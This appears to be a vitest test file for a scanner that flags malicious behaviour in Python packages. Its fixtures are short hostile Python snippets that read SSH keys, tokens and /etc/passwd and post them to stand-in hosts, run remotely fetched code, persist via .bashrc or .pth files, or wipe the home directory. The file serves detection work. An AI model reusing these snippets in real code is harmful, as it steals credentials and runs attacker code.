import { describe, expect, it } from 'vitest'
import { DEFAULT_LIMITS } from '../../../base/limits.ts'
import { readPythonModule } from '../../../formats/python/python.ts'
import type { Behaviour } from '../behaviour.ts'
import type { FileRole } from '../package-file.ts'
import { pythonBehaviours } from './behaviours.ts'
import { installEntryPoints, pathConfigurationCode } from './install-entry-points.ts'
import { holdsNothing } from './prefilter.ts'

function behavioursOf(source: string, role: FileRole = 'library'): readonly Behaviour[] {
  return pythonBehaviours(readPythonModule(source, DEFAULT_LIMITS, { flow: true }), { path: 'x.py', role })
}

const shown = ({ kind, subject, inputs }: Behaviour): string =>
  [kind, subject, ...new Set(inputs.map(({ source, through }) => [source, ...through].join('>')))].join(' ')

describe('behaviours', () => {
  const cases: readonly (readonly [source: string, found: readonly string[]])[] = [
    ['import os\nos.environ["NPM_TOKEN"]', ['read-environment NPM_TOKEN']],
    ['import os\nos.getenv("USERNAME")', ['host-facts USERNAME']],
    ['import os\nos.environ.get("PATH")', []],
    ['open("/etc/passwd").read()', ['read-secret-file passwords of the system']],
    ['from pathlib import Path\n(Path.home() / ".npmrc").read_text()', ['read-secret-file .npmrc']],
    ['import glob\nglob.glob("/home/*/.ssh/id_rsa")', ['read-secret-file .ssh']],
    ['from pathlib import Path\nPath.home().rglob("*.env")', ['hunt-secrets pathlib.Path().rglob']],
    ['import keyring\nkeyring.get_password("a", "b")', ['read-secret-file keyring']],
    ['import browser_cookie3 as b\nb.chrome()', ['browser-store browser_cookie3']],
    ['import pyperclip\npyperclip.paste()', ['clipboard pyperclip.paste']],
    ['from PIL import ImageGrab\nImageGrab.grab()', ['spy screen']],
    ['import platform, uuid\nplatform.node(), uuid.getnode()', ['host-facts hostname', 'host-facts hardware address']],
    [
      'import requests\nrequests.get("http://169.254.169.254/latest/")',
      ['cloud-metadata 169.254.169.254', 'network 169.254.169.254'],
    ],
    [
      'import os, json, base64, zlib, urllib.request as u\nu.urlopen("https://a.example", base64.b64encode(zlib.compress(json.dumps(dict(os.environ)).encode())))',
      ['network a.example environment>json>gzip>base64'],
    ],
    [
      'import os, httpx\nwith httpx.Client(base_url="https://a.example") as c: c.post("/x", json={"k": os.environ["API_KEY"]})',
      ['network a.example environment'],
    ],
    [
      'import os, http.client\nc = http.client.HTTPSConnection("a.example")\nc.request("POST", "/", os.environ["API_KEY"])',
      ['network a.example environment'],
    ],
    [
      'import os, socket\ns = socket.socket()\ns.connect(("203.0.113.7", 80))\ns.sendall(str(os.environ).encode())',
      ['network 203.0.113.7', 'network 203.0.113.7 environment'],
    ],
    [
      'import os, smtplib\ns = smtplib.SMTP("a.example")\ns.sendmail("a", "b", open(os.path.expanduser("~/.netrc")).read())',
      ['network a.example secret-file'],
    ],
    [
      'import os, aiohttp\nasync def f():\n  async with aiohttp.ClientSession() as s:\n    await s.post("https://a.example", data=os.environ["API_KEY"])',
      ['network a.example environment'],
    ],
    ['import os, socket\nsocket.gethostbyname(f"{os.getlogin()}.a.example")', ['dns ….a.example host-facts']],
    ['import socket\nsocket.gethostbyname(socket.gethostname())', ['host-facts hostname']],
    [
      'import subprocess, requests\nrequests.post("https://a.example", data=subprocess.check_output("cat ~/.ssh/id_rsa", shell=True))',
      ['network a.example secret-file'],
    ],
    ['import requests\nexec(requests.get("https://a.example/x").text)', ['evaluate exec network', 'network a.example']],
    [
      'import base64, marshal\nexec(marshal.loads(base64.b64decode("YQ==" + x)))',
      ['evaluate exec', 'evaluate marshal'],
    ],
    ['exec("x = 1")', []],
    [
      'import pickle, requests\npickle.loads(requests.get("https://a.example").content)',
      ['evaluate pickle.loads network', 'network a.example'],
    ],
    ['import pickle\npickle.load(open(path, "rb"))', []],
    [
      'import urllib.request, subprocess, os\nurllib.request.urlretrieve("https://a.example/x", "/tmp/x")\nos.chmod("/tmp/x", 0o755)\nsubprocess.Popen(["/tmp/x"])',
      [
        'download a.example network',
        'execute x network',
        'write-executable /tmp/x',
        'write-executable /tmp/x network',
        'write-file /tmp/x network',
      ],
    ],
    [
      'import os\nopen(os.path.expanduser("~/.bashrc"), "a").write("x")',
      ['persist shell profile', 'write-file ~/.bashrc'],
    ],
    [
      'import site\nopen(site.getsitepackages()[0] + "/a.pth", "w").write("import a")',
      ['persist python start', 'write-file <site-packages>/a.pth'],
    ],
    [
      'open(".github/workflows/x.yml", "w").write(t)',
      ['write-file .github/workflows/x.yml', 'write-workflow workflow'],
    ],
    ['import pip\npip.main(["install", "x"])', ['download pip']],
    ['import os\nos.system("twine upload dist/*")', ['execute twine', 'publish-package twine']],
    ['import subprocess\nsubprocess.run(["git", "push"])', ['execute git', 'publish-repository git']],
    ['import sys\nsys.meta_path.insert(0, F())', ['hook-runtime sys.meta_path']],
    ['import builtins\nbuiltins.__import__ = f', ['hook-runtime builtins.__import__']],
    ['import shutil, os\nshutil.rmtree(os.path.expanduser("~"))', ['destroy ~']],
    ['import shutil\nshutil.rmtree("build")', []],
    ['import os\nos.remove(__file__)', ['hide deletes itself']],
    ['__import__("o" + "s")', ['obfuscation hidden-name']],
    ['import ctypes\nctypes.windll.kernel32.VirtualAlloc(0, 1)', ['evaluate shellcode']],
    ['import ctypes\nctypes.CDLL("./x.so")', ['dynamic-import native']],
    [
      'import zipfile, os, requests\nz = zipfile.ZipFile("o.zip", "w")\nz.write(os.path.expanduser("~/.ssh/id_rsa"))\nz.close()\nrequests.post("https://a.example", files={"f": open("o.zip", "rb")})',
      ['network a.example file secret-file'],
    ],
    ['x = 1; a\u200db = 2', ['obfuscation hidden-characters']],
    ['if True:\n  pass;' + ' '.repeat(400) + 'import os', ['obfuscation far-right']],
  ]
  it.each(cases)('%s', (source, found) => {
    const all = behavioursOf(source)
      .filter(({ kind }) => kind !== 'encode' && !(kind === 'read-environment' && source.includes('API_KEY')))
      .map(shown)
    for (const one of found) expect(all).toContain(one)
    if (found.length === 0) expect(all).toEqual([])
  })
})

describe('what runs with the installation', () => {
  const cases: readonly (readonly [name: string, source: string, entries: string])[] = [
    [
      'commands by name',
      'from setuptools import setup\nclass A:\n  def run(self): f()\ndef f(): pass\nsetup(cmdclass={"install": A})',
      'A.run f',
    ],
    [
      'commands by base',
      'from setuptools.command.install import install as i\nclass A(i):\n  def finalize_options(self): self.g()\n  def g(self): pass',
      'A.finalize_options A.g',
    ],
    [
      'hooks of build backends',
      'def build_wheel(d, c=None, m=None): return h()\ndef h(): pass\ndef other(): pass',
      'build_wheel h',
    ],
  ]
  it.each(cases)('%s', (_, source, entries) => {
    const module = readPythonModule(source, DEFAULT_LIMITS, { flow: true })
    const known = new Set(module.definitions.filter(({ kind }) => kind === 'function').map(({ name }) => name))
    expect(
      [...installEntryPoints(module)]
        .filter((name) => known.has(name))
        .toSorted()
        .join(' '),
    ).toBe(entries)
  })

  it('is told so', () => {
    const source =
      'import os\nfrom setuptools import setup\nfrom setuptools.command.install import install\nclass A(install):\n  def run(self): os.system("id")\nsetup(cmdclass=dict(install=A))'
    const found = (role: FileRole): readonly string[] =>
      behavioursOf(source, role).flatMap(({ kind, when }) => (kind === 'execute' ? [when] : []))
    expect(found('install')).toEqual(['install'])
    expect(found('library')).toEqual(['call'])
  })

  it('is every line of a .pth file that begins with import', () => {
    expect(pathConfigurationCode('../x\nimport os; os.system("id")\n# import a\nimporting\r\nimport\ta')).toBe(
      '\nimport os; os.system("id")\n\n\nimport\ta',
    )
  })
})

describe('files in which nothing can be', () => {
  const cases: readonly (readonly [source: string, nothing: boolean])[] = [
    ['import math\ndef f(x: float) -> float:\n  """The sine."""\n  return math.sin(x)', true],
    ['from .other import thing\n__all__ = ["thing"]', true],
    ['import os', false],
    ['x = ().__class__.__base__.__subclasses__()', false],
    ['𝐞𝐱𝐞𝐜(x)', false],
    ['a = "b" ;' + ' '.repeat(200) + 'c()', false],
  ]
  it.each(cases)('%s', (source, nothing) => {
    expect(holdsNothing(source)).toBe(nothing)
  })
})
